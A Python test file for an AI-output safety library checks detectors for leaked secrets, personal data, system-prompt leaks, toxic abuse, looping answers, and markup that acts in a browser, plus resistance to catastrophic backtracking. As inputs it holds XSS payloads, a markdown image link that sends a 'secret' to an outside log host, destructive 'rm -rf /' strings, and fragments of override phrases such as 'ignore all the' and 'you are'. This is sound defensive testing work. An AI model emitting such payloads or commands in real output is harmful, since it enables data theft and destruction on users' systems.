"""The detectors beside shell and injection: what they find and what they leave alone."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ta_safety.detectors.leak import canary, find_leak, with_canary
from ta_safety.detectors.markup import find_markup
from ta_safety.detectors.match import Match, masked
from ta_safety.detectors.pii import find_pii, is_card, is_iban
from ta_safety.detectors.secrets import find_secrets
from ta_safety.detectors.shape import find_bloat, find_cut_off, find_loop
from ta_safety.detectors.toxicity import THRESHOLD, find_toxicity

SECRETS = {
    "aws key": "AKIA" + "QWERTYUIOPASDFGH",
    "github token": "ghp_" + "a1B2" * 9,
    "gitlab token": "glpat-" + "abcdefghij0123456789",
    "slack token": "xoxb-" + "123456789012-abcdefghij",
    "stripe key": "sk_live_" + "4eC39HqLyjWDarjtT1zd",
    "google key": "AIza" + "A1b2C3d4E5" * 3 + "abcde",
    "hugging face token": "hf_" + "abcdefghij" * 3 + "abcd",
    "jwt": "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0NTY3ODkwIn0." + "abcdefghijklmnop",
    "url password": "postgres://app:s3cr3tPw9@db.firm.de/shop",
    "password": "password = 'Tr0ub4dor&3'"[:22],
    "private key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNz\n-----END OPENSSH PRIVATE KEY-----",
}


@pytest.mark.parametrize("kind", SECRETS)
def test_a_secret_is_found_by_its_shape(kind: str) -> None:
    assert kind in {match.kind for match in find_secrets(f"set it to {SECRETS[kind]} please")}


@pytest.mark.parametrize(
    "text",
    [
        "df -h /dev/sda1",
        "export PASSWORD=$1",
        "mysql --password=<your password>",
        "sha256sum: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "git log 3f2c9ab",
        "PasswordAuthentication no",
        "password: ********",
        "https://example.org:8080/path",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFoo user@host",
    ],
)
def test_what_only_looks_like_a_secret_is_left_alone(text: str) -> None:
    assert find_secrets(text) == []


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("email", "write to anna.kern@firma-mueller.de today"),
        ("card", "card 4111 1111 1111 1111 expires soon"),
        ("iban", "pay to DE89 3704 0044 0532 0130 00 now"),
        ("ssn", "SSN 123-45-6789"),
        ("phone", "call +49 30 901820 5566"),
    ],
)
def test_personal_data_is_found(kind: str, text: str) -> None:
    assert {match.kind for match in find_pii(text)} == {kind}


@pytest.mark.parametrize(
    "text",
    [
        "ping 192.168.178.20",
        "scp file anna@files.firma.de:/srv",
        "git clone git@github.com:org/repo.git",
        'git config user.email "you@example.com"',
        "touch -d '2024-05-06 12:00:00' file",
        "dd count=1048576 bs=4096",
        "kill 12345678901234",
        "card 4111 1111 1111 1112",
        "version 10.2.30.4000",
    ],
)
def test_addresses_dates_and_numbers_are_content(text: str) -> None:
    assert find_pii(text) == []


@given(st.integers(0, 10**14 - 1))
def test_every_card_number_has_exactly_one_check_digit(body: int) -> None:
    assert sum(is_card(f"4{body:014d}{digit}") for digit in range(10)) <= 1


def test_an_iban_of_the_wrong_length_is_none() -> None:
    assert is_iban("DE89370400440532013000")
    assert not is_iban("DE8937040044053201300")


PROMPT = "You are the assistant of Firma Kern. Never talk about prices and always greet the user by name."


def test_a_quoted_system_prompt_is_found_where_it_stands() -> None:
    answer = "Sure! It says: never talk about prices and always greet the user by name."
    match = find_leak(answer, PROMPT)[0]
    assert answer[match.start : match.end] == "never talk about prices and always greet the user by name"


def test_a_reversed_or_encoded_system_prompt_is_found() -> None:
    import base64

    assert find_leak(base64.b64encode(PROMPT.encode()).decode(), PROMPT)


def test_the_canary_is_found_alone() -> None:
    assert canary(PROMPT) in with_canary(PROMPT)
    assert find_leak(f"the last line is [{canary(PROMPT)}]", PROMPT)


def test_an_answer_on_another_subject_does_not_leak() -> None:
    assert find_leak("Use ls -l. It always shows the name of the user.", PROMPT) == []


@pytest.mark.parametrize(
    "text", ["You are a stupid idiot.", "go kill yourself", "I will kill you", "All immigrants are vermin."]
)
def test_abuse_of_people_reaches_the_threshold(text: str) -> None:
    assert max(match.score for match in find_toxicity(text)) >= THRESHOLD


@pytest.mark.parametrize(
    "text",
    [
        "How do I kill a child process?",
        "kill the parent and all its children",
        "reap zombie children of a dead parent",
        "master and slave configuration of MySQL",
        "this stupid damn script is fucking broken",
        "dumb terminals and the garbage collector",
        "abort the daemon, execute the slave, nuke the cache",
        "I will kill the process and find you a better one",
        "fsck /dev/sda1 and finger root",
    ],
)
def test_the_language_of_the_trade_and_swearing_at_machines_stay_below(text: str) -> None:
    assert max((match.score for match in find_toxicity(text)), default=0.0) < THRESHOLD


def test_a_padded_prompt_is_bloat_and_a_log_is_not() -> None:
    log = "\n".join(
        f"Nov {i % 28} host sshd[{i * 7919 % 9999}]: Accepted key for user{i % 13} port {i * 31}"
        for i in range(80)
    )
    assert find_bloat("please help me now. " * 300, 16_000)
    assert find_bloat(log, 16_000) == []


def test_the_limit_of_length_is_the_limit() -> None:
    assert find_bloat("a b" * 100, 299)
    assert find_bloat("a b" * 100, 300) == []


def test_an_answer_is_cut_off_at_the_limit_or_in_a_block() -> None:
    assert find_cut_off("Use ls", "length")
    assert find_cut_off("```bash\nls", "stop")
    assert find_cut_off("```bash\nls\n```", "stop") == []


def test_a_looping_answer_is_found_and_a_list_is_not() -> None:
    assert find_loop("ok\n" + "run it again\n" * 5)
    assert find_loop("and then it is " + "very important to " * 6)
    assert find_loop("\n".join(f"- step {i}" for i in range(9))) == []


def test_overlapping_matches_are_masked_once() -> None:
    assert masked("abcdef", [Match("x", 1, 4, ""), Match("y", 2, 3, "")]) == "a[X]ef"


HOSTILE = [
    "a" * 50_000,
    "1 " * 20_000,
    "@" * 20_000,
    "a@" * 10_000,
    "you are " * 5_000,
    "-----BEGIN " * 3_000,
    "password=" * 5_000,
    "eyJ" * 10_000,
    "<a " * 8_000,
    "![" * 8_000,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_input_costs_no_more_than_its_length(text: str) -> None:
    began = time.process_time()
    for find in (find_secrets, find_pii, find_toxicity, find_loop, find_markup):
        find(text)
    find_bloat(text, 10**6)
    assert time.process_time() - began < 2.0, "catastrophic backtracking: seconds instead of milliseconds"


@pytest.mark.parametrize(
    "text",
    [
        "Hello <script>alert(1)</script>",
        '<img src=x onerror="go()">',
        "[click](javascript:go())",
        "![x](https://log.example/p?q=secret)",
    ],
)
def test_markup_that_acts_in_a_browser_is_found(text: str) -> None:
    assert find_markup(text)


@pytest.mark.parametrize(
    "text",
    [
        "Write `<script>` in the page.",
        "```html\n<script src=a.js></script>\n```",
        "![a cat](https://example.org/cat.png)",
        "sort < in > out && echo '<b>'",
        "[docs](https://example.org/?page=2)",
    ],
)
def test_markup_in_code_and_plain_pictures_are_left_alone(text: str) -> None:
    assert find_markup(text) == []


SLOW_TRAPS = {
    "repeated verb": "ignore all the " * 3000,
    "persona": "you are " * 5000,
    "base64": "QUJD" * 10_000,
    "spaced": "a b " * 10_000,
    "quotes": '"' * 10_000,
    "marks": "<|" * 8_000,
    "brackets": "![" * 15_000,
    "substitutions": "echo $(" * 2_000,
    "fences": "~~~\n```\n" * 4_000,
    "endless loop": "while true; do sleep 1 &" + "\n" * 5_000 + "x",
    "dots": "rm -rf /" + "." * 5_000 + "x",
    "parents": "rm -rf " + "/a/.." * 1_500 + "/x",
    "option": "docker volume prune -" + "a" * 9_000 + "!",
    "recursive": "rm -" + "r" * 9_000 + "! /etc",
    "socket": "python3 -c '" + "socket " * 1_300 + "'",
    "prompts": "$ rm -rf x\n" * 2_000,
}


@pytest.mark.parametrize("name", SLOW_TRAPS)
def test_hostile_text_does_not_hang_the_injection_and_shell_detectors(name: str) -> None:
    from ta_safety.detectors.injection.detect import detect
    from ta_safety.detectors.shell.answer import check_answer

    began = time.process_time()
    detect(SLOW_TRAPS[name])
    check_answer(f"```\n{SLOW_TRAPS[name]}\n```")
    check_answer(SLOW_TRAPS[name])
    assert time.process_time() - began < 5.0, "catastrophic backtracking: minutes instead of half a second"


@settings(max_examples=80, deadline=None)
@given(st.text(max_size=200))
def test_matches_lie_inside_the_text(text: str) -> None:
    for match in [*find_secrets(text), *find_pii(text), *find_toxicity(text), *find_loop(text)]:
        assert 0 <= match.start <= match.end <= len(text)
